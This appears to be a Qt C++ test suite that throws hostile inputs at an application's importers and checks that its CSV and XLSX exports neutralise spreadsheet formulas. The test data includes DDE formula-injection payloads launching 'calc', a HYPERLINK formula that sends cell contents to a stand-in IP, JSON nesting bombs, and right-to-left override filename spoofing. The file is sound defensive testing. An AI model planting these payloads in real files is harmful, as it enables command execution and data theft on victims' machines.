// Hostile inputs for every importer and loader, table-driven: binary garbage, invalid UTF-8
// declared as UTF-8, NUL bytes, a 50 MB single line, overlong lines, 10,000 columns, JSON
// nesting bombs, huge arrays, wrong types, right-to-left overrides, active HTML, and formula
// cells in exports. Each row expects a clear error (ErrorCode + message) or a documented safe
// outcome; nothing crashes, and big inputs are refused before they are read into memory.
//
// A new importer joins by adding an entry to importers() and rows to inputs_data().
#include "TestVault.h"

#include "export/TableExport.h"
#include "iso/IsoTypes.h"
#include "policies/PolicyText.h"
#include "requests/WorkingDayCalendar.h"
#include "storage/Statement.h"
#include "submissions/Submission.h"
#include "submissions/SubmissionImport.h"

#include <QFile>
#include <QHash>
#include <QProcess>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>

#include <functional>
#include <sys/resource.h>

using namespace cd;
using cd::test::TestVault;

namespace {

struct Outcome {
    Status status;
    QString output; // what the importer produced, for the safe-outcome checks
};

// Peak resident memory of this process in KiB (Linux reports ru_maxrss in KiB).
long peakRssKiB()
{
    rusage usage {};
    getrusage(RUSAGE_SELF, &usage);
    return usage.ru_maxrss;
}

int noError()
{
    return int(ErrorCode::None);
}

} // namespace

class TestHostileInputs : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void inputs_data();
    void inputs();
    void exportNeutralisesFormulas_data();
    void exportNeutralisesFormulas();
    void submissionExportsNeutraliseFormulas();

private:
    QString input(const QString& name) const;
    QHash<QString, std::function<Outcome(const QString&)>> importers();
    void generate(const QString& name, const std::function<void(QFile&)>& write);

    void checkSubmissionOutcome(const QString& safe);

    QTemporaryDir m_generated;
    std::unique_ptr<TestVault> m_vault;
};

void TestHostileInputs::generate(const QString& name, const std::function<void(QFile&)>& write)
{
    QFile f(m_generated.filePath(name));
    QVERIFY(f.open(QIODevice::WriteOnly));
    write(f);
}

void TestHostileInputs::initTestCase()
{
    m_vault = std::make_unique<TestVault>();
    // Written in chunks so generating them does not itself raise this process's peak memory.
    generate(QStringLiteral("line-50mb.txt"), [](QFile& f) {
        const QByteArray chunk = QByteArray("个人信息").repeated(4096);
        for (qint64 written = 0; written < 50LL * 1024 * 1024; written += chunk.size()) {
            f.write(chunk);
        }
    });
    QFile::copy(
        m_generated.filePath(QStringLiteral("line-50mb.txt")), m_generated.filePath(QStringLiteral("line-50mb.json")));
    generate(QStringLiteral("line-3mb.txt"),
        [](QFile& f) { f.write(QByteArray("我们收集的个人信息 personal data ").repeated(3 * 1024 * 1024 / 40)); });
    generate(QStringLiteral("columns-10000.txt"), [](QFile& f) {
        const QByteArray row = "|" + QByteArray("x|").repeated(10000) + "\n";
        f.write("标题\n" + row + row + row);
    });
    generate(QStringLiteral("nesting-bomb-array.json"),
        [](QFile& f) { f.write(QByteArray(100000, '[') + QByteArray(100000, ']')); });
    generate(QStringLiteral("nesting-bomb-object.json"), [](QFile& f) {
        f.write(QByteArray("{\"year\":2027,\"holidays\":") + QByteArray("{\"a\":").repeated(50000) + "1"
            + QByteArray(50000, '}') + "}");
    });
    generate(QStringLiteral("holidays-huge-array.json"), [](QFile& f) {
        f.write("{\"year\":2027,\"holidays\":[");
        for (int i = 0; i < 25000; ++i) {
            f.write(i ? ",{\"date\":\"2027-01-01\"}" : "{\"date\":\"2027-01-01\"}");
        }
        f.write("]}");
    });
    generate(QStringLiteral("holidays-whole-year.json"), [](QFile& f) {
        f.write("{\"year\":2027,\"holidays\":[{\"from\":\"2027-01-01\",\"to\":\"2027-12-31\",\"name\":\"x\"}]}");
    });
    generate(QStringLiteral("catalogue-huge-array.json"), [](QFile& f) {
        f.write("{\"version\":2,\"controls\":[");
        for (int i = 0; i < 40000; ++i) {
            f.write(QByteArray(i ? "," : "") + "{\"id\":\"5." + QByteArray::number(1 + i % 900)
                + "\",\"theme\":\"organizational\",\"title_en\":\"Policies\",\"title_zh\":\"策略\"}");
        }
        f.write("]}");
    });
    generate(QStringLiteral("deep-nesting.html"), [](QFile& f) {
        f.write("<html><body>" + QByteArray("<table><tr><td>").repeated(3000) + "深处的文字"
            + QByteArray("</td></tr></table>").repeated(3000) + "</body></html>");
    });
    generate(QStringLiteral("divs-250.html"), [](QFile& f) {
        f.write("<html><body><p>" + QByteArray("<div>").repeated(250) + "深处的文字"
            + QByteArray("</div>").repeated(250) + "</body></html>");
    });
    generate(QStringLiteral("deep-divs.html"), [](QFile& f) {
        f.write("<html><body>" + QByteArray("<div><b><i>").repeated(20000) + "text"
            + QByteArray("</i></b></div>").repeated(20000) + "</body></html>");
    });

    // Contact submissions: every file has good rows around the hostile one, which must survive.
    const QByteArray csvHeader = "姓名,手机,留言\n";
    const QByteArray csvGood1 = "王芳,13800138001,你好\n";
    const QByteArray csvGood2 = "赵丽,13800138003,谢谢\n";
    const QByteArray jsonGood1 = R"({"name":"王芳","phone":"13800138001"})";
    const QByteArray jsonGood2 = R"({"name":"赵丽","phone":"13800138003"})";
    const QByteArray fill = QByteArray("个人信息").repeated(4096);
    auto fifty = [&fill](QFile& f) {
        for (qint64 written = 0; written < 50LL * 1024 * 1024; written += fill.size()) {
            f.write(fill);
        }
    };
    generate(QStringLiteral("sub-field-50mb.csv"), [&](QFile& f) {
        f.write(csvHeader + csvGood1 + "李明,13800138002,\"");
        fifty(f);
        f.write("\"\n" + csvGood2);
    });
    generate(QStringLiteral("sub-line-50mb.jsonl"), [&](QFile& f) {
        f.write(jsonGood1 + "\n" + R"({"name":"李明","message":")");
        fifty(f);
        f.write("\"}\n" + jsonGood2 + "\n");
    });
    generate(QStringLiteral("sub-element-50mb.json"), [&](QFile& f) {
        f.write("[" + jsonGood1 + "," + R"({"name":"李明","message":")");
        fifty(f);
        f.write("\"}," + jsonGood2 + "]");
    });
    generate(QStringLiteral("sub-columns-10000.csv"),
        [&](QFile& f) { f.write("姓名,手机" + QByteArray(",x").repeated(10000) + "\n" + csvGood1); });
    generate(QStringLiteral("sub-row-10000.csv"), [&](QFile& f) {
        f.write(csvHeader + csvGood1 + "李明,13800138002" + QByteArray(",x").repeated(10000) + "\n" + csvGood2);
    });
    generate(QStringLiteral("sub-keys-10000.jsonl"), [&](QFile& f) {
        QByteArray wide = R"({"name":"李明")";
        for (int i = 0; i < 10000; ++i) {
            wide += ",\"k" + QByteArray::number(i) + "\":1";
        }
        f.write(jsonGood1 + "\n" + wide + "}\n" + jsonGood2 + "\n");
    });
    generate(QStringLiteral("sub-nul-after-sample.csv"), [&](QFile& f) {
        f.write(csvHeader + csvGood1);
        for (int i = 0; i < 1200; ++i) { // 70 KB of good rows before the NUL
            f.write("某人" + QByteArray::number(i) + ",139" + QByteArray::number(10000000 + i)
                + ",留言内容留言内容留言内容\n");
        }
        f.write(QByteArray("李明,13800138002,带") + QByteArray(1, '\0') + "空字符\n" + csvGood2);
    });
    generate(QStringLiteral("sub-gb18030.csv"), [&](QFile& f) {
        QStringEncoder gb("GB18030");
        f.write(gb.encode(QStringLiteral("姓名,手机,留言\n张伟,13800138001,请删除我的个人信息\n"
                                         "欧阳娜娜,13800138002,咨询\n李𠀾,13800138003,生僻字\n")));
    });
    generate(QStringLiteral("sub-message-3mb.csv"), [&](QFile& f) {
        f.write(csvHeader + csvGood1 + "李明,13800138002," + QByteArray("长").repeated(1024 * 1024) + "\n" + csvGood2);
    });
    generate(QStringLiteral("sub-line-3mb.jsonl"), [&](QFile& f) {
        f.write(jsonGood1 + "\n" + R"({"name":"李明","message":")" + QByteArray("长").repeated(1024 * 1024) + "\"}\n"
            + jsonGood2 + "\n");
    });
    generate(QStringLiteral("sub-nesting-bomb-element.json"), [&](QFile& f) {
        f.write("[" + jsonGood1 + ",{\"name\":" + QByteArray("{\"a\":").repeated(50000) + "1" + QByteArray(50000, '}')
            + "}," + jsonGood2 + "]");
    });
    generate(QStringLiteral("sub-nesting-bomb-line.jsonl"), [&](QFile& f) {
        f.write(
            jsonGood1 + "\n{\"name\":" + QByteArray(100000, '[') + QByteArray(100000, ']') + "}\n" + jsonGood2 + "\n");
    });
}

QString TestHostileInputs::input(const QString& name) const
{
    if (name.startsWith(QLatin1String("gen:"))) {
        return m_generated.filePath(name.mid(4));
    }
    return cd::test::testDataPath(QStringLiteral("hostile/") + name);
}

QHash<QString, std::function<Outcome(const QString&)>> TestHostileInputs::importers()
{
    QHash<QString, std::function<Outcome(const QString&)>> all;
    all.insert(QStringLiteral("policy"), [](const QString& path) {
        auto r = PolicyText::importFile(path);
        return r ? Outcome { {}, r.value() } : Outcome { r.status(), {} };
    });
    // The calendar import writes into the vault: a refused file must leave it as it was.
    all.insert(QStringLiteral("holiday"), [this](const QString& path) {
        const qint64 before = Statement::scalarInt(m_vault->db(), "SELECT count(*) FROM request_calendar_days");
        auto r = WorkingDayCalendar::importFile(m_vault->vault(), path);
        const qint64 after = Statement::scalarInt(m_vault->db(), "SELECT count(*) FROM request_calendar_days");
        if (!r && before != after) {
            return Outcome { Error { ErrorCode::Internal, QStringLiteral("a refused file changed the vault") }, {} };
        }
        return r ? Outcome { {}, QString::number(after - before) } : Outcome { r.status(), {} };
    });
    // The submission import writes into the vault; it starts from an empty table so the outcome
    // can be read back, and a refused file must leave the table empty.
    all.insert(QStringLiteral("submissions"), [this](const QString& path) {
        Database& db = m_vault->db();
        db.exec("DELETE FROM submissions");
        db.exec("DELETE FROM submission_grams");
        db.exec("DELETE FROM submission_unindexed_deletes");
        auto r = submissions::SubmissionImporter::run(db, m_vault->vault().actor(), path, {});
        const qint64 rows = Statement::scalarInt(db, "SELECT count(*) FROM submissions");
        if (!r) {
            if (rows != 0) {
                return Outcome { Error { ErrorCode::Internal, QStringLiteral("a refused file changed the vault") },
                    {} };
            }
            return Outcome { r.status(), {} };
        }
        if (rows != r->imported || r->read != r->imported + r->duplicates + r->rejected) {
            return Outcome { Error { ErrorCode::Internal, QStringLiteral("the import report does not add up") }, {} };
        }
        return Outcome { {}, QStringLiteral("imported=%1 rejected=%2").arg(r->imported).arg(r->rejected) };
    });
    all.insert(QStringLiteral("catalogue"), [](const QString& path) {
        auto r = iso::Catalogue::fromFile(path);
        return r ? Outcome { {}, QString::number(r->controls.size()) } : Outcome { r.status(), {} };
    });
    return all;
}

void TestHostileInputs::inputs_data()
{
    QTest::addColumn<QString>("importer");
    QTest::addColumn<QString>("file");
    QTest::addColumn<int>("expected"); // ErrorCode; None: imported, then `safe` must hold
    QTest::addColumn<QString>("safe"); // what a successful import must satisfy
    const int invalid = int(ErrorCode::InvalidInput);
    // The 50 MB rows come first: the peak-memory check compares against the peak before them.
    QTest::newRow("policy: 50 MB single line") << "policy"
                                               << "gen:line-50mb.txt" << invalid << "";
    QTest::newRow("holiday: 50 MB file") << "holiday"
                                         << "gen:line-50mb.json" << invalid << "";
    QTest::newRow("catalogue: 50 MB file") << "catalogue"
                                           << "gen:line-50mb.json" << invalid << "";
    QTest::newRow("submissions: 50 MB field (CSV)") << "submissions"
                                                    << "gen:sub-field-50mb.csv" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: 50 MB line (JSON Lines)")
        << "submissions"
        << "gen:sub-line-50mb.jsonl" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: 50 MB element (JSON array)")
        << "submissions"
        << "gen:sub-element-50mb.json" << noError() << "imported=2 rejected=1";
    QTest::newRow("policy: binary garbage") << "policy"
                                            << "binary-garbage.txt" << invalid << "";
    QTest::newRow("policy: invalid UTF-8 declared UTF-8") << "policy"
                                                          << "invalid-utf8-declared.txt" << invalid << "";
    QTest::newRow("policy: NUL bytes") << "policy"
                                       << "nul-bytes.txt" << invalid << "";
    QTest::newRow("policy: 3 MB line") << "policy"
                                       << "gen:line-3mb.txt" << noError() << "bounded";
    QTest::newRow("policy: 10,000 columns") << "policy"
                                            << "gen:columns-10000.txt" << noError() << "table";
    QTest::newRow("policy: RTL override") << "policy"
                                          << "rtl-override.txt" << noError() << "bidi-kept";
    QTest::newRow("policy: script, remote image, file iframe")
        << "policy"
        << "script-and-remote-image.html" << noError() << "inert";
    QTest::newRow("policy: 3,000 nested tables") << "policy"
                                                 << "gen:deep-nesting.html" << int(ErrorCode::InvalidInput) << "";
    QTest::newRow("policy: 20,000 nested divs") << "policy"
                                                << "gen:deep-divs.html" << int(ErrorCode::InvalidInput) << "";
    QTest::newRow("policy: 250 nested divs") << "policy"
                                             << "gen:divs-250.html" << noError() << "deep-text";
    QTest::newRow("holiday: nesting bomb (arrays)") << "holiday"
                                                    << "gen:nesting-bomb-array.json" << invalid << "";
    QTest::newRow("holiday: nesting bomb (objects)") << "holiday"
                                                     << "gen:nesting-bomb-object.json" << invalid << "";
    QTest::newRow("holiday: 25,000 entries") << "holiday"
                                             << "gen:holidays-huge-array.json" << invalid << "";
    QTest::newRow("holiday: whole year as holiday") << "holiday"
                                                    << "gen:holidays-whole-year.json" << invalid << "";
    QTest::newRow("holiday: year as text") << "holiday"
                                           << "holiday-wrong-types.json" << invalid << "";
    QTest::newRow("holiday: list of numbers") << "holiday"
                                              << "holiday-list-of-numbers.json" << invalid << "";
    QTest::newRow("holiday: holidays not a list") << "holiday"
                                                  << "holiday-holidays-not-list.json" << invalid << "";
    QTest::newRow("holiday: top-level array") << "holiday"
                                              << "json-top-level-array.json" << invalid << "";
    QTest::newRow("catalogue: nesting bomb") << "catalogue"
                                             << "gen:nesting-bomb-array.json" << invalid << "";
    QTest::newRow("catalogue: 40,000 controls") << "catalogue"
                                                << "gen:catalogue-huge-array.json" << invalid << "";
    QTest::newRow("catalogue: wrong types") << "catalogue"
                                            << "catalogue-wrong-types.json" << invalid << "";
    QTest::newRow("catalogue: numeric ids") << "catalogue"
                                            << "catalogue-numeric-ids.json" << invalid << "";
    QTest::newRow("catalogue: top-level array") << "catalogue"
                                                << "json-top-level-array.json" << invalid << "";
    QTest::newRow("submissions: 10,000 columns (header)") << "submissions"
                                                          << "gen:sub-columns-10000.csv" << invalid << "";
    QTest::newRow("submissions: 10,000 fields in one row")
        << "submissions"
        << "gen:sub-row-10000.csv" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: 10,000 keys (JSON Lines)") << "submissions"
                                                           << "gen:sub-keys-10000.jsonl" << invalid << "";
    QTest::newRow("submissions: unbalanced quotes") << "submissions"
                                                    << "submissions-unbalanced-quotes.csv" << invalid << "";
    QTest::newRow("submissions: NUL bytes") << "submissions"
                                            << "submissions-nul-bytes.csv" << noError() << "imported=0 rejected=1";
    QTest::newRow("submissions: NUL bytes after 64 KB")
        << "submissions"
        << "gen:sub-nul-after-sample.csv" << noError() << "imported=1202 rejected=1";
    QTest::newRow("submissions: invalid UTF-8 declared UTF-8")
        << "submissions"
        << "submissions-invalid-utf8-declared.csv" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: GB18030 without BOM")
        << "submissions"
        << "gen:sub-gb18030.csv" << noError() << "imported=3 rejected=0 gb18030";
    QTest::newRow("submissions: 3 MB field (CSV)") << "submissions"
                                                   << "gen:sub-message-3mb.csv" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: 3 MB line (JSON Lines)")
        << "submissions"
        << "gen:sub-line-3mb.jsonl" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: nesting bomb (JSON array)") << "submissions"
                                                            << "gen:nesting-bomb-array.json" << invalid << "";
    QTest::newRow("submissions: nesting bomb inside an element")
        << "submissions"
        << "gen:sub-nesting-bomb-element.json" << invalid << "";
    QTest::newRow("submissions: nesting bomb line (JSON Lines)")
        << "submissions"
        << "gen:sub-nesting-bomb-line.jsonl" << noError() << "imported=2 rejected=1";
    QTest::newRow("submissions: JSON Lines with one broken line")
        << "submissions"
        << "submissions-broken-line.jsonl" << noError() << "imported=3 rejected=1";
    QTest::newRow("submissions: formula cells")
        << "submissions"
        << "submissions-formula-cells.csv" << noError() << "imported=4 rejected=0 formulas-as-text";
    QTest::newRow("submissions: RTL override in names")
        << "submissions"
        << "submissions-rtl-names.csv" << noError() << "imported=2 rejected=0 bidi-kept";
}

void TestHostileInputs::inputs()
{
    QFETCH(QString, importer);
    QFETCH(QString, file);
    QFETCH(int, expected);
    QFETCH(QString, safe);
    const auto all = importers();
    QVERIFY2(all.contains(importer), qPrintable(importer));
    const QString path = input(file);
    QVERIFY2(QFile::exists(path), qPrintable(path));
    const qint64 size = QFile(path).size();
    const long peakBefore = peakRssKiB();
    const Outcome outcome = all.value(importer)(path);
    const long grownKiB = peakRssKiB() - peakBefore;

    QCOMPARE(int(outcome.status.code()), expected);
    if (expected != noError()) {
        QVERIFY(!outcome.status.message().isEmpty());
    }
    // Streamed or refused by size: never a copy of a huge file in memory.
    if (size > 20 * 1024 * 1024) {
        QVERIFY2(grownKiB < 16 * 1024, qPrintable(QStringLiteral("peak memory grew by %1 KiB").arg(grownKiB)));
    }
    if (importer == QLatin1String("submissions")) {
        checkSubmissionOutcome(safe);
        QVERIFY2(outcome.output.isEmpty() || safe.startsWith(outcome.output), qPrintable(outcome.output));
        return;
    }
    if (safe == QLatin1String("bounded")) {
        QVERIFY(outcome.output.size() < 2 * size);
    } else if (safe == QLatin1String("table")) {
        QVERIFY(outcome.output.contains(QLatin1String("| --- |")));
    } else if (safe == QLatin1String("bidi-kept")) {
        // Kept, so the published text and its diff show exactly what was written; not counted.
        QVERIFY(outcome.output.contains(QChar(0x202E)));
        const QString plain = PolicyText::renderedPlainText(outcome.output);
        QCOMPARE(PolicyText::countCharacters(plain),
            PolicyText::countCharacters(QString(plain).remove(QChar(0x202E)).remove(QChar(0x202C))));
    } else if (safe == QLatin1String("deep-text")) {
        QVERIFY(outcome.output.contains(QStringLiteral("深处的文字")));
    } else if (safe == QLatin1String("inert")) {
        QVERIFY(outcome.output.contains(QStringLiteral("隐私政策")));
        QVERIFY(!outcome.output.contains(QLatin1String("<script")));
        QVERIFY(!outcome.output.contains(QLatin1String("alert(1)")));
        QVERIFY(!outcome.output.contains(QLatin1String("root:")));
    }
}

void TestHostileInputs::exportNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("cell");
    QTest::newRow("=CMD") << QStringLiteral("=CMD|' /C calc'!A0");
    QTest::newRow("plus") << QStringLiteral("+1+2");
    QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    QTest::newRow("tab") << QStringLiteral("\t=1+1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1+1");
    QTest::newRow("full-width equals") << QStringLiteral("＝1+1");
    QTest::newRow("HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")");
}

void TestHostileInputs::exportNeutralisesFormulas()
{
    QFETCH(QString, cell);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.csv"));
    QVERIFY(TableExport::writeCsv(
        path, { QStringLiteral("name"), QStringLiteral("note") }, { { QStringLiteral("Test Person"), cell } }));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(f.readAll());
    const QStringList lines = text.split(QStringLiteral("\r\n"));
    QVERIFY(lines.size() >= 2);
    // The cell is the second field: after the first comma, possibly quoted.
    QString field = lines.at(1).section(QLatin1Char(','), 1);
    if (field.startsWith(QLatin1Char('"'))) {
        field.remove(0, 1);
    }
    QVERIFY(!field.isEmpty());
    const QChar first = field.at(0);
    QVERIFY2(first != QLatin1Char('=') && first != QLatin1Char('+') && first != QLatin1Char('-')
            && first != QLatin1Char('@') && first != QLatin1Char('\t') && first != QLatin1Char('\r')
            && first != QChar(0xFF1D),
        qPrintable(field));
    // Nothing is lost: the original text follows the neutralising prefix.
    QVERIFY(text.contains(QString(cell).replace(QLatin1Char('"'), QStringLiteral("\"\""))));
}

void TestHostileInputs::checkSubmissionOutcome(const QString& safe)
{
    Database& db = m_vault->db();
    auto names = [&db] {
        QStringList out;
        Statement q(db, "SELECT name FROM submissions ORDER BY phone_norm");
        while (q.next()) {
            out << q.text(0);
        }
        return out;
    };
    if (safe.contains(QLatin1String("gb18030"))) {
        QCOMPARE(names(), (QStringList { QStringLiteral("张伟"), QStringLiteral("欧阳娜娜"), QStringLiteral("李𠀾") }));
    }
    if (safe.contains(QLatin1String("bidi-kept"))) {
        // Kept exactly as written: an erasure request must find what the person typed.
        QCOMPARE(names(),
            (QStringList { QStringLiteral("王\u202E芳gpj.exe"), QStringLiteral("\u202BAli\u202C Hassan\u200F") }));
    }
    if (safe.contains(QLatin1String("formulas-as-text"))) {
        // Stored as typed; the exports neutralise them (submissionExportsNeutraliseFormulas).
        QCOMPARE(names(),
            (QStringList { QStringLiteral("=CMD|' /C calc'!A0"), QStringLiteral("+1+2"), QStringLiteral("-2+3"),
                QStringLiteral("@SUM(1+1)") }));
        Statement message(db, "SELECT message FROM submissions WHERE phone_norm = '13800138001'");
        QVERIFY(message.next());
        QCOMPARE(message.text(0), QStringLiteral("=HYPERLINK(\"http://203.0.113.9/\",\"x\")"));
    }
    // Good rows around a hostile one are kept whole.
    if (safe.contains(QLatin1String("imported=2 rejected=1"))) {
        QCOMPARE(names(), (QStringList { QStringLiteral("王芳"), QStringLiteral("赵丽") }));
    }
}

void TestHostileInputs::submissionExportsNeutraliseFormulas()
{
    Database& db = m_vault->db();
    db.exec("DELETE FROM submissions");
    auto r = submissions::SubmissionImporter::run(
        db, m_vault->vault().actor(), input(QStringLiteral("submissions-formula-cells.csv")), {});
    QVERIFY2(r, qPrintable(r.message()));
    QCOMPARE(r->imported, qint64(4));
    submissions::SubmissionService service(m_vault->vault());
    QTemporaryDir dir;
    const QString csv = dir.filePath(QStringLiteral("out.csv"));
    auto rows = service.exportRows({}, {}, submissions::SubmissionService::ExportFormat::Csv, csv);
    QVERIFY2(rows, qPrintable(rows.message()));
    QCOMPARE(rows.value(), qint64(4));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(f.readAll());
    int checked = 0;
    for (const QString& line : text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts).mid(1)) {
        // Every cell of every row: none may start like a formula once its quotes are removed.
        for (QString cell : line.split(QLatin1Char(','))) {
            if (cell.startsWith(QLatin1Char('"'))) {
                cell.remove(0, 1);
            }
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell.at(0)), qPrintable(cell));
            ++checked;
        }
    }
    QVERIFY(checked >= 4 * 4);
    QVERIFY(text.contains(QStringLiteral("=CMD|' /C calc'!A0")));
    if (!TableExport::xlsxAvailable()) {
        return;
    }
    const QString xlsx = dir.filePath(QStringLiteral("out.xlsx"));
    auto x = service.exportRows({}, {}, submissions::SubmissionService::ExportFormat::Xlsx, xlsx);
    QVERIFY2(x, qPrintable(x.message()));
    QProcess unzip;
    unzip.start(QStringLiteral("unzip"), { QStringLiteral("-p"), xlsx });
    if (!unzip.waitForFinished(30000) || unzip.exitCode() != 0) {
        QSKIP("unzip is not available to read the XLSX");
    }
    const QString xml = QString::fromUtf8(unzip.readAllStandardOutput());
    // No formula element anywhere: XLSX keeps the values unchanged in text cells (a string
    // cell with the "@" text format), which a spreadsheet never evaluates.
    QVERIFY(!xml.contains(QLatin1String("<f>")) && !xml.contains(QLatin1String("<f ")));
    QVERIFY(xml.contains(QStringLiteral("CMD|&apos; /C calc&apos;!A0"))
        || xml.contains(QStringLiteral("CMD|' /C calc'!A0")));
    QVERIFY(xml.contains(QStringLiteral("numFmtId=\"49\"")));
    for (const QString& rewritten : { QStringLiteral(">'=CMD"), QStringLiteral(">'=HYPERLINK") }) {
        QVERIFY2(!xml.contains(rewritten), qPrintable(rewritten));
    }
}

QTEST_MAIN(TestHostileInputs)
#include "tst_hostileinputs.moc"
